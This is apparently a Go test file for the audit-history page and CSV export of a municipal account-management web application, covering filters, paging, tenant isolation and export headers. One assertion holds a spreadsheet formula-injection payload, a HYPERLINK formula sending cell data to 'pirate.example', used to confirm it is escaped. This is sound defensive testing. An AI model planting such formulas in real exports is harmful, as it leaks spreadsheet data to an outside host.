package web_test

import (
	"context"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sesame-platform/sesame/internal/service"
	"github.com/sesame-platform/sesame/internal/testenv"
)

// newHistorySite is an exportSite where, two days later, Anne changed
// Durand's department and someone failed to log in as Roux.
func newHistorySite(t *testing.T) *exportSite {
	t.Helper()
	x := newExportSite(t)
	ctx := context.Background()
	x.Clock.Advance(48 * time.Hour)
	up := service.AccountUpdate{Person: service.PersonInput{Profile: "user", Civility: "Mme", Surname: "Durand", FirstName: "Paul",
		Email: "paul.durand@mairie.example", Department: "Finances"}}
	if _, err := x.Service.UpdateAccount(ctx, x.actor, x.durand.Account.ID, up); err != nil {
		t.Fatal(err)
	}
	if _, err := x.Service.Login(ctx, x.roux.Person.Identifier, "Mauvais-Mot-2!", "192.0.2.7", ""); err == nil {
		t.Fatal("a wrong password logged in")
	}
	// Two days on, the sessions have ended: log in again, as people do.
	x.admin = x.logInHTTP(t, x.adminID, "Vigne-Rouge-26!")
	x.otherAdmin = x.logInHTTP(t, x.otherAdminID, "Vigne-Rouge-26!")
	return x
}

var kindAttr = regexp.MustCompile(`<tr data-kind="([a-z._]+)">`)

// rowKinds are the kinds of the rows a history page shows.
func rowKinds(body string) []string {
	var out []string
	for _, m := range kindAttr.FindAllStringSubmatch(body, -1) {
		out = append(out, m[1])
	}
	return out
}

func TestHistoryPage(t *testing.T) {
	x := newHistorySite(t)
	res := do(t, x.admin, "GET", x.URL+"/etablissement/historique", nil)
	if res.status != http.StatusOK {
		t.Fatalf("history: %d\n%s", res.status, res.body)
	}
	for _, want := range []string{"<h1 class=\"h3 mb-1\">Historique</h1>", "COMMUNE DE SAINT-ÉMILION",
		// The filters, with their choices.
		`<option value="account.updated">Modification des coordonnées</option>`, `>Anne Gueriot</option>`, `>Opérateur de test</option>`,
		// What changed, before and after.
		"Service : " + formulaDept + ` <span aria-hidden="true">→</span><span class="visually-hidden">devient</span> Finances`,
		// The person-level event of one of its people, and when.
		"Échec de connexion", "192.0.2.7", "20/03/2026 09:30", "Mme Célestin Roux", x.roux.Person.Identifier,
		"1-11 sur 11 événement(s)",
	} {
		if !strings.Contains(res.body, want) {
			t.Errorf("the history lacks %q", want)
		}
	}
	// The formula is shown as text, escaped.
	if !strings.Contains(res.raw, "=HYPERLINK(&#34;http://pirate.example/?d=&#34;&amp;A1") {
		t.Errorf("the department is not escaped as expected")
	}
	if strings.Contains(res.body, "Lenoir") || strings.Contains(res.body, "Finot") {
		t.Errorf("B's events in A's history")
	}

	// Filtered by kind with htmx: only the results, only that kind.
	req, _ := http.NewRequest("GET", x.URL+"/etablissement/historique?type=account.updated", nil)
	req.Header.Set("HX-Request", "true")
	req.Header.Set("HX-Target", "historique-resultats")
	hres, err := x.admin.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer hres.Body.Close()
	frag := readAll(t, hres)
	if strings.Contains(frag, "<html") || strings.Contains(frag, "filtres-historique") || !strings.Contains(frag, "1-1 sur 1 événement(s)") {
		t.Errorf("htmx fragment:\n%s", frag)
	}
	if got := rowKinds(frag); !slices.Equal(got, []string{"account.updated"}) {
		t.Errorf("kinds = %q", got)
	}
	if !strings.Contains(frag, `href="/etablissement/historique/export?type=account.updated"`) {
		t.Errorf("the export link does not carry the filter")
	}

	// The same URL without htmx is the whole page, the choice kept.
	res = do(t, x.admin, "GET", x.URL+"/etablissement/historique?type=account.updated&compte=durand&du=2026-03-20&au=20/03/2026", nil)
	for _, want := range []string{`<option value="account.updated" selected>`, `value="durand"`, `value="2026-03-20"`, "1-1 sur 1 événement(s)"} {
		if !strings.Contains(res.body, want) {
			t.Errorf("the filtered page lacks %q", want)
		}
	}
	res = do(t, x.admin, "GET", x.URL+"/etablissement/historique?du=32/13/2026", nil)
	if !strings.Contains(res.body, "Date invalide") || !strings.Contains(res.body, `aria-invalid="true"`) {
		t.Errorf("an unreadable date is not pointed out")
	}
}

func readAll(t *testing.T, res *http.Response) string {
	t.Helper()
	var b strings.Builder
	buf := make([]byte, 32<<10)
	for {
		n, err := res.Body.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			break
		}
	}
	return html.UnescapeString(b.String())
}

func TestHistoryFiltersAndPages(t *testing.T) {
	x := newHistorySite(t)
	for range 55 {
		if _, err := x.Service.Login(context.Background(), x.martin.Person.Identifier, "Mauvais-Mot-2!", "192.0.2.9", ""); err == nil {
			t.Fatal("a wrong password logged in")
		}
	}
	for _, tc := range []struct {
		name  string
		query string
		kinds []string // the first page's, in order; nil to skip
		count string
	}{
		{"first page", "", nil, "1-50 sur 67 événement(s)"},
		{"second page", "page=2", nil, "51-67 sur 67 événement(s)"},
		{"by kind", "type=account.updated", []string{"account.updated"}, "1-1 sur 1"},
		{"by account", "compte=roux", []string{"login.failed", "account.created"}, "1-2 sur 2"},
		{"by author", "auteur=" + url.QueryEscape("Opérateur de test"), []string{"account.created", "establishment.created"}, "1-2 sur 2"},
		{"by period", "du=2026-03-20&type=login.failed&page=2", nil, "51-56 sur 56"},
		{"before the changes", "au=2026-03-19", nil, "1-8 sur 8"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := do(t, x.admin, "GET", x.URL+"/etablissement/historique?"+tc.query, nil)
			if !strings.Contains(res.body, tc.count) {
				t.Errorf("no %q in:\n%s", tc.count, res.body[max(0, strings.Index(res.body, "historique-resultats")):])
			}
			if tc.kinds != nil && !slices.Equal(rowKinds(res.body), tc.kinds) {
				t.Errorf("kinds = %q, want %q", rowKinds(res.body), tc.kinds)
			}
		})
	}
	// Author by person: Anne's own events.
	var anne string
	if c, err := x.Service.HistoryChoices(context.Background(), x.actor); err == nil {
		for _, a := range c.Actors {
			if a.Label == "Anne Gueriot" {
				anne = strconv.FormatInt(a.PersonID, 10)
			}
		}
	}
	res := do(t, x.admin, "GET", x.URL+"/etablissement/historique?auteur="+anne, nil)
	if got := rowKinds(res.body); anne == "" || !slices.Equal(got, []string{"login.succeeded", "account.updated", "account.created",
		"account.created", "account.created", "login.succeeded", "login.succeeded", "account.activated"}) {
		t.Errorf("Anne's events: %q", got)
	}
}

func TestHistoryIsTheEstablishmentsOnly(t *testing.T) {
	x := newHistorySite(t)
	x.activateLink(t, "celine.martin@mairie.example", "Colline-Bleue-7!")
	user := x.logInHTTP(t, x.martin.Person.Identifier, "Colline-Bleue-7!")
	for _, path := range []string{"/etablissement/historique", "/etablissement/historique/export"} {
		if res := do(t, user, "GET", x.URL+path, nil); res.status != http.StatusNotFound || strings.Contains(res.body, "Gueriot") {
			t.Errorf("a plain user on %s: %d", path, res.status)
		}
		if res := do(t, browser(t), "GET", x.URL+path, nil); res.status != http.StatusSeeOther {
			t.Errorf("anonymous on %s: %d", path, res.status)
		}
	}
	// B's administrator sees B's history; no account, author or event of A.
	res := do(t, x.otherAdmin, "GET", x.URL+"/etablissement/historique", nil)
	if res.status != 200 || !strings.Contains(res.body, "Luc Finot") {
		t.Fatalf("B's history: %d", res.status)
	}
	for _, a := range []string{"Gueriot", "Durand", "Roux", "Martin", "192.0.2.7", "SAINT-ÉMILION"} {
		if strings.Contains(res.body, a) {
			t.Errorf("B's history shows %q", a)
		}
	}
	// Even when asked for A's people by name.
	res = do(t, x.otherAdmin, "GET", x.URL+"/etablissement/historique?compte=roux", nil)
	if !strings.Contains(res.body, "0-0 sur 0 événement(s)") || !strings.Contains(res.body, "Aucun événement ne correspond") {
		t.Errorf("B searching for A's Roux finds something")
	}
}

func TestHistoryCSVDownload(t *testing.T) {
	x := newHistorySite(t)
	before := countEventsAll(t, x)
	res := do(t, x.admin, "GET", x.URL+"/etablissement/historique/export?compte=durand", nil)
	if res.status != 200 || res.header.Get("Content-Type") != "text/csv; charset=utf-8" || res.header.Get("Cache-Control") != "no-store" ||
		res.header.Get("Content-Disposition") != "attachment; filename=historique-21330394500017-2026-03-20.csv" {
		t.Fatalf("%d %v", res.status, res.header)
	}
	records := testenv.ReadCSV(t, res.bytes)
	if !slices.Equal(records[0], []string{"Date", "Auteur", "Adresse IP", "Opération", "Compte concerné", "Identifiant", "Détail"}) {
		t.Errorf("header = %q", records[0])
	}
	if len(records) != 3 {
		t.Fatalf("%d events, want Durand's 2:\n%q", len(records)-1, records)
	}
	update := records[1]
	if update[3] != "Modification des coordonnées" || update[4] != "Mme Paul Durand" || update[1] != "Anne Gueriot" ||
		update[6] != "Service : "+formulaDept+" → Finances" {
		t.Errorf("update row = %q", update)
	}
	// A detail starting with "=" would be neutralised too; this one starts with "Service".
	if records[2][3] != "Création du compte" || !strings.Contains(records[2][6], "Identifiant : "+x.durand.Person.Identifier) {
		t.Errorf("creation row = %q", records[2])
	}
	if after := countEventsAll(t, x); after != before {
		t.Errorf("reading the history recorded %d events", after-before)
	}
}

func countEventsAll(t *testing.T, x *exportSite) int {
	t.Helper()
	var n int
	if err := x.Store.ReadDB().QueryRowContext(context.Background(), `SELECT count(*) FROM audit_events`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}
